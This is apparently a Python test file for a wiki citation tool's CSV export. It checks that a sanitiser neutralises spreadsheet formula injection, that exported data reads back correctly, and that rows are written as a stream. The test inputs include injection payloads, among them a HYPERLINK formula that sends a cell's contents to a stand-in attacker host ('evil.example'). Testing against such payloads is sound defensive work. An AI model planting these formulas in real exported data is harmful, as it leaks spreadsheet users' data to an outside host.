"""Rows as CSV, and what spreadsheets make of them."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wiki.citations.formats.spreadsheet import harmless, write


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("https://evil.example/?"&A1)',
        "+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "＝1+1",
        "\0=1",
    ],
)
def test_no_cell_is_taken_for_a_formula(cell):
    assert harmless(cell) == "'" + cell.replace("\0", "")


@pytest.mark.parametrize("cell", ["", "A title", "1-2", "'=1", "https://a.example/=x"])
def test_other_cells_stay_as_they_are(cell):
    assert harmless(cell) == cell


@given(st.lists(st.lists(st.text(st.characters(codec="utf-8")), min_size=1)))
def test_what_is_written_is_read_again(rows):
    text = "".join(write(rows))

    assert text.startswith("\ufeff")
    assert read(text) == [[harmless(cell) for cell in row] for row in rows]


def test_rows_are_written_one_by_one():
    def rows():
        yield ["first"]
        raise RuntimeError("nobody asked yet")

    pieces = write(rows())

    assert [next(pieces), next(pieces)] == ["\ufeff", "first\r\n"]
